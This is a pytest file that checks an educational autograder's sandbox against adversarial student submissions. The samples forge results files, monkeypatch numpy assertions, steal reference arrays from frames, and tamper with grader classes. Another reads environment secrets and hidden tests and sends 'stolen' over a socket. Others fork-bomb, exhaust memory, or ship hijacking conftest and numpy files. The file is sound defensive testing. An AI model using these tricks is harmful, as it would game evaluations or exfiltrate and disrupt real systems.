"""Malicious submissions against the grader (issue 6, "Done when" kinds 1-10).

Each submission below is a student's ``ops.py`` for tests/fixtures/grading/adv (7 points:
matmul_backward 3, linear_forward 2, and a hidden test through a trusted driver 2). The honest
right answer scores 7, the honest wrong one (every result halved) 0. A malicious submission
must score no more than the honest answer its code otherwise matches (0 unless said), and its
results.json must validate. They are graded in one batch with ``grade_all(-j 2)`` (the
fixture's timeout is 1 s per call, so the loops and bombs cost seconds, not minutes).

Protections that need root (unprivileged uid, network and mount namespaces, the process
limit) are checked where the grader has them; the tests that need them say so when skipped.
"""
from __future__ import annotations

import json
import os
import socket
import textwrap
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from edu_nn import cli
from edu_nn.grading.gradebook import grade_all
from edu_nn.grading.graded import Submission
from edu_nn.grading.results import validate_results
from edu_nn.grading.sandbox import SandboxConfig, protections

ADV = Path(__file__).parent / "fixtures" / "grading" / "adv"
RIGHT = (ADV / "ops.py").read_text()
WRONG = RIGHT.replace("return x @ W", "return 0.5 * (x @ W)") \
             .replace("grad_x = grad @ W.T", "grad_x = 0.5 * (grad @ W.T)") \
             .replace("grad_W = x.T @ grad", "grad_W = 0.5 * (x.T @ grad)")
SECRET = "edu-nn-grader-secret-4711"     # put into the grader's environment by the batch

# kind -> (files, expected score). "@WRONG@"/"@RIGHT@" are replaced by the honest code.
SUBMISSIONS = {
    "honest_right": ({"ops.py": "@RIGHT@"}, 7.0),
    "honest_wrong": ({"ops.py": "@WRONG@"}, 0.0),
    # (1) forge a full-score results.json everywhere it might count, then leave at once
    "forge_results": ({"ops.py": '''
        import json, os
        forged = {"score": 1000.0, "tests": [{"name": "t", "score": 1000.0, "max_score": 7.0,
                                              "status": "passed"}]}
        for path in ["results.json", "../results.json", "@OUT@/forge_results/results.json",
                     "@OUT@/gradebook.csv", "/autograder/results/results.json"]:
            try:
                os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
                with open(path, "w") as f:
                    json.dump(forged, f)
                print("wrote", path)
            except OSError as exc:
                print("could not write", path, type(exc).__name__)
        os._exit(0)
        '''}, 0.0),
    # (2) make every comparison pass, in case the grader compares with numpy or unittest
    "patch_asserts": ({"ops.py": '''
        import numpy as np, numpy.testing, unittest
        np.allclose = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
        np.array_equal = lambda *a, **k: True
        unittest.TestCase.assertEqual = lambda *a, **k: None
        unittest.TestCase.assertTrue = lambda *a, **k: None
        @WRONG@'''}, 0.0),
    # (3) an ndarray subclass that claims equality and zero error; an object equal to anything
    "lying_subclass": ({"ops.py": '''
        import numpy as np
        class Liar(np.ndarray):
            def __eq__(self, other): return np.ones(self.shape, bool)
            def __sub__(self, other): return np.zeros(self.shape).view(Liar)
            def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
        def linear_forward(x, W):
            return np.zeros((x.shape[0], W.shape[1])).view(Liar)
        def matmul_backward(x, W, grad):
            return np.zeros(x.shape).view(Liar), np.zeros(W.shape).view(Liar)
        '''}, 0.0),
    "always_equal": ({"ops.py": '''
        class AlwaysEqual:
            def __eq__(self, other): return True
            def __array__(self, dtype=None, copy=None): raise SystemExit
            shape = property(lambda self: (6, 2))
        def linear_forward(x, W): return AlwaysEqual()
        def matmul_backward(x, W, grad): return AlwaysEqual(), AlwaysEqual()
        '''}, 0.0),
    # (4) look for the reference in the callers' frames and in every live object
    "steal_reference": ({"ops.py": '''
        import gc, inspect, sys
        import numpy as np
        def _loot(*shapes):
            found = []
            for frame in inspect.stack():
                for value in list(frame.frame.f_locals.values()):
                    if isinstance(value, np.ndarray) and value.shape in shapes:
                        found.append(value)
            for obj in gc.get_objects():
                if isinstance(obj, np.ndarray) and obj.shape in shapes:
                    found.append(obj)
            print("frames:", [f.function for f in inspect.stack()], "arrays:", len(found))
            return found
        def linear_forward(x, W):
            found = _loot((x.shape[0], W.shape[1]))
            return found[-1] if found else np.zeros((x.shape[0], W.shape[1]))
        def matmul_backward(x, W, grad):
            a, b = _loot(x.shape), _loot(W.shape)
            return (a[-1] if a else 0 * x), (b[-1] if b else 0 * W)
        '''}, 0.0),
    # (5) rewrite the grader's scoring machinery (in its own process, where it can reach it)
    "tamper_machinery": ({"ops.py": '''
        import builtins, sys
        try:
            import edu_nn.grading.graded as g, edu_nn.grading.grader as gr
            g.Submission.check_close = lambda *a, **k: None
            g.Submission.check = lambda *a, **k: None
            g.TestFailure = type("Nope", (BaseException,), {})
            gr.grade_submission = lambda *a, **k: {"score": 1000.0}
            print("patched the grader's classes")
        except Exception as exc:
            print("could not import the grader:", type(exc).__name__)
        builtins.AssertionError = type("Nope", (Exception,), {})
        sys.modules["edu_nn.grading.results"] = None
        @WRONG@'''}, 0.0),
    # (6) mutate inputs in place: after computing the right answer (still right), or zeroing
    # grad_output and returning zeros, in case the reference were taken after the call
    "mutate_after_right": ({"ops.py": '''
        @RIGHT@
        _right_forward, _right_backward = linear_forward, matmul_backward
        def linear_forward(x, W):
            out = _right_forward(x, W)
            x[...] = 0.0; W[...] = 0.0
            return out
        def matmul_backward(x, W, grad):
            out = _right_backward(x, W, grad)
            x[...] = 0.0; W[...] = 0.0; grad[...] = 0.0
            return out
        '''}, 7.0),
    "mutate_grad_output": ({"ops.py": '''
        import numpy as np
        def linear_forward(x, W):
            x[...] = 0.0
            return np.zeros((x.shape[0], W.shape[1]))
        def matmul_backward(x, W, grad):
            grad[...] = 0.0
            return np.zeros_like(x), np.zeros_like(W)
        '''}, 0.0),
    # (7) read hidden tests, the solution, environment variables; phone home
    "snoop": ({"ops.py": '''
        import glob, os, socket
        print("env:", dict(os.environ))
        for path in ["@ADV@/tests/hidden_adv.py", "@ADV@/ops.py", "@ADV@/drivers/harness.py",
                     "/root/.bash_history", "/autograder/source/assignment"]:
            try:
                print("read", path, open(path).read()[:300])
            except OSError as exc:
                print("cannot read", path, type(exc).__name__)
        print("listing:", glob.glob("@ADV@/**", recursive=True)[:20])
        print("others:", glob.glob("@SUBS@/*/ops.py")[:5])
        for address in [("127.0.0.1", @PORT@), ("8.8.8.8", 53)]:
            try:
                socket.create_connection(address, timeout=0.5).sendall(b"stolen")
                print("connected to", address)
            except OSError as exc:
                print("no connection to", address, type(exc).__name__)
        @WRONG@'''}, 0.0),
    # (8) self-consistent but wrong: forward 2 (x @ W) with its exact derivative
    "self_consistent": ({"ops.py": '''
        def linear_forward(x, W):
            return 2 * (x @ W)
        def matmul_backward(x, W, grad):
            return 2 * (grad @ W.T), 2 * (x.T @ grad)
        '''}, 0.0),
    # (9) borrow gradients from torch or jax, also past the import hook
    "import_torch": ({"ops.py": '''
        import torch
        def linear_forward(x, W):
            return (torch.tensor(x) @ torch.tensor(W)).numpy()
        def matmul_backward(x, W, grad):
            xt = torch.tensor(x, requires_grad=True); Wt = torch.tensor(W, requires_grad=True)
            (xt @ Wt).backward(torch.tensor(grad))
            return xt.grad.numpy(), Wt.grad.numpy()
        '''}, 0.0),
    "import_jax": ({"ops.py": '''
        import jax, jax.numpy as jnp
        def linear_forward(x, W):
            return jax.numpy.asarray(x) @ W
        def matmul_backward(x, W, grad):
            return jax.vjp(jnp.matmul, x, W)[1](grad)
        '''}, 0.0),
    "bypass_import_hook": ({"ops.py": '''
        import sys
        sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Blocker"]
        sys.path.append("@SITE@")
        import torch
        def linear_forward(x, W):
            return (torch.tensor(x) @ torch.tensor(W)).numpy()
        def matmul_backward(x, W, grad):
            xt = torch.tensor(x, requires_grad=True); Wt = torch.tensor(W, requires_grad=True)
            (xt @ Wt).backward(torch.tensor(grad))
            return xt.grad.numpy(), Wt.grad.numpy()
        '''}, 0.0),
    # (10) loop forever; allocate 16 GiB; fork-bomb; sys.exit at import; ship files that
    # would hijack pytest, site or numpy
    "infinite_loop": ({"ops.py": '''
        @WRONG@
        def matmul_backward(x, W, grad):
            while True:
                pass
        '''}, 0.0),
    "allocate_16gib": ({"ops.py": '''
        @WRONG@
        import numpy as np
        _hog = []
        def matmul_backward(x, W, grad):
            _hog.append(np.ones(2 ** 31))        # 16 GiB of float64
            return grad @ W.T, x.T @ grad
        '''}, 0.0),
    "fork_bomb": ({"ops.py": '''
        @WRONG@
        import os
        def matmul_backward(x, W, grad):
            while True:
                os.fork()
        '''}, 0.0),
    "exit_at_import": ({"ops.py": '''
        import sys
        sys.exit(0)
        @RIGHT@'''}, 0.0),
    "ships_hijack_files": ({
        "ops.py": '''
        import os
        assert not any(os.path.exists(f) for f in ["conftest.py", "pytest.ini",
                                                   "sitecustomize.py", "numpy.py"])
        @RIGHT@''',
        "conftest.py": "import os\nos._exit(0)\n",
        "pytest.ini": "[pytest]\naddopts = -p no:everything\n",
        "sitecustomize.py": "raise SystemExit\n",
        "numpy.py": "allclose = lambda *a, **k: True\nraise SystemExit\n"}, 7.0),
}


def _fill(text: str, subs: dict[str, str]) -> str:
    text = textwrap.dedent(text)      # before the (unindented) honest code goes in
    for key, value in subs.items():
        text = text.replace(f"@{key}@", value)
    return text


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Grade every submission above in one grade_all(-j 2); a listening socket and a secret
    in the grader's environment are there to be stolen."""
    root = tmp_path_factory.mktemp("adversarial")
    subs, out = root / "submissions", root / "graded"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    accepted: list = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                pass
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    site = str(Path(np.__file__).resolve().parents[1])
    fill = {"OUT": str(out), "ADV": str(ADV), "SUBS": str(subs), "SITE": site,
            "PORT": str(server.getsockname()[1])}
    fill["RIGHT"], fill["WRONG"] = RIGHT, WRONG
    for kind, (files, _) in SUBMISSIONS.items():
        (subs / kind).mkdir(parents=True)
        for name, text in files.items():
            (subs / kind / name).write_text(_fill(text, fill))
    os.environ["EDU_NN_TEST_SECRET"] = SECRET
    start = time.perf_counter()
    try:
        rows = grade_all(subs, ADV, out, jobs=2)
    finally:
        del os.environ["EDU_NN_TEST_SECRET"]
        stop.set()
    seconds = time.perf_counter() - start
    thread.join(1)
    server.close()
    results = {r.student: json.loads((out / r.student / "results.json").read_text())
               for r in rows}
    print(f"\nadversarial batch: {len(rows)} submissions graded in {seconds:.1f} s (-j 2)")
    return {"results": results, "rows": {r.student: r for r in rows}, "accepted": accepted,
            "out": out, "subs": subs, "seconds": seconds}


def outputs(results: dict) -> str:
    return "\n".join([results["output"], *(t["output"] for t in results["tests"])])


def check_kind(batch, kind: str) -> dict:
    results = batch["results"][kind]
    assert validate_results(results) == [], kind
    assert results["score"] == SUBMISSIONS[kind][1], (kind, outputs(results))
    assert results["score"] <= batch["results"]["honest_right"]["score"]
    return results


def needs(protection: str):
    p = protections()
    if not getattr(p, protection):
        pytest.skip(f"this grader runs without {protection}: {p.staff_note()}")


def test_honest_answers_score_as_expected(batch):
    assert check_kind(batch, "honest_right")["score"] == 7.0
    assert check_kind(batch, "honest_wrong")["score"] == 0.0
    assert batch["seconds"] < 45, batch["seconds"]


def test_1_forged_results_json_and_os_exit(batch):
    results = check_kind(batch, "forge_results")
    assert "without returning a value: does your code call sys.exit() or os._exit()" in \
        outputs(results)
    written = json.loads((batch["out"] / "forge_results" / "results.json").read_text())
    assert written == results and written["score"] == 0.0
    assert "1000" not in (batch["out"] / "gradebook.csv").read_text()


def test_1_forged_results_through_the_cli(tmp_path):
    out = tmp_path / "results.json"
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "ops.py").write_text(textwrap.dedent(f'''
        import json, os
        with open({str(out)!r}, "w") as f:
            json.dump({{"score": 1000.0}}, f)
        os._exit(0)
    '''))
    assert cli.main(["grade", str(sub), "--assignment", str(ADV), "--out", str(out)]) == 0
    results = json.loads(out.read_text())
    assert results["score"] == 0.0 and validate_results(results) == []


def test_2_patched_numpy_and_unittest_change_nothing(batch):
    results = check_kind(batch, "patch_asserts")
    assert "worst at index" in outputs(results)


def test_3_lying_array_subclass_and_always_equal_object(batch):
    text = outputs(check_kind(batch, "lying_subclass"))
    assert "returned ops.Liar, expected a numpy.ndarray" in text
    text = outputs(check_kind(batch, "always_equal"))
    assert "returned ops.AlwaysEqual, expected a numpy.ndarray" in text


def test_4_no_reference_to_steal_in_frames_or_gc(batch):
    text = outputs(check_kind(batch, "steal_reference"))
    assert "frames:" in text and "test_matmul_backward" not in text.split("frames:")[1][:300]


def test_5_tampering_with_the_grader_machinery(batch):
    text = outputs(check_kind(batch, "tamper_machinery"))
    assert "worst at index" in text      # the parent's check_close still ran


def test_6_mutating_inputs_gains_nothing(batch):
    check_kind(batch, "mutate_after_right")      # right answers stay right
    check_kind(batch, "mutate_grad_output")      # zeroed grad_output: the parent's is intact


def test_6_the_parents_arrays_are_untouched(tmp_path):
    sub_dir = tmp_path / "sub"
    sub_dir.mkdir()
    (sub_dir / "ops.py").write_text(textwrap.dedent(SUBMISSIONS["mutate_grad_output"][0]
                                                    ["ops.py"]))
    sub = Submission(SandboxConfig(files={"ops.py": sub_dir / "ops.py"}, drivers={}))
    rng = np.random.default_rng(0)
    x, W, g = rng.standard_normal((3, 4)), rng.standard_normal((4, 5)), rng.standard_normal((3, 5))
    copies = [a.copy() for a in (x, W, g)]
    got = sub.call("ops.py", "matmul_backward", x, W, g)
    assert all(np.array_equal(a, c) for a, c in zip((x, W, g), copies))
    assert not np.any(got[0])      # the child's zeros came back; the parent's g did not change


def test_7_no_secrets_no_solution_no_network(batch):
    results = check_kind(batch, "snoop")
    text = outputs(results)
    assert SECRET not in text and "EDU_NN_TEST_SECRET" not in text
    assert "env: {'OPENBLAS_NUM_THREADS'" in text   # only what the grader set
    assert "through a trusted driver" not in text and "x.T @ grad" not in text
    assert "cannot read " + str(ADV / "tests" / "hidden_adv.py") in text or \
        not protections().jail
    assert batch["accepted"] == [] or not protections().netns


def test_7_hidden_files_and_network_need_root_protections(batch):
    needs("jail")
    needs("netns")
    text = outputs(batch["results"]["snoop"])
    listing = text.split("listing:")[1].splitlines()[0]
    assert ".py" not in listing and "others: []" in text
    assert "no connection to ('127.0.0.1'" in text and batch["accepted"] == []


def test_8_self_consistent_but_wrong(batch):
    text = outputs(check_kind(batch, "self_consistent"))
    assert "actual = 2 x expected" in text or "factor of 2" in text


def test_9_torch_and_jax_are_not_importable(batch):
    assert "torch is not available while grading" in outputs(check_kind(batch, "import_torch"))
    assert "jax is not available while grading" in outputs(check_kind(batch, "import_jax"))


def test_9_bypassing_the_import_hook_finds_no_torch(batch):
    needs("jail")
    check_kind(batch, "bypass_import_hook")


def test_10_infinite_loop_is_stopped(batch):
    text = outputs(check_kind(batch, "infinite_loop"))
    assert "took longer than 1 s" in text or "more than 1 s of CPU time" in text


def test_10_allocating_16_gib_fails(batch):
    assert "MemoryError" in outputs(check_kind(batch, "allocate_16gib"))


def test_10_fork_bomb_is_contained(batch):
    needs("jail")
    text = outputs(check_kind(batch, "fork_bomb"))
    assert "BlockingIOError" in text or "Resource temporarily unavailable" in text or \
        "took longer" in text


def test_10_sys_exit_at_import(batch):
    assert "your code called sys.exit(0)" in outputs(check_kind(batch, "exit_at_import"))


def test_10_shipped_conftest_sitecustomize_numpy_are_never_copied(batch):
    check_kind(batch, "ships_hijack_files")     # full marks: numpy.py did not shadow numpy
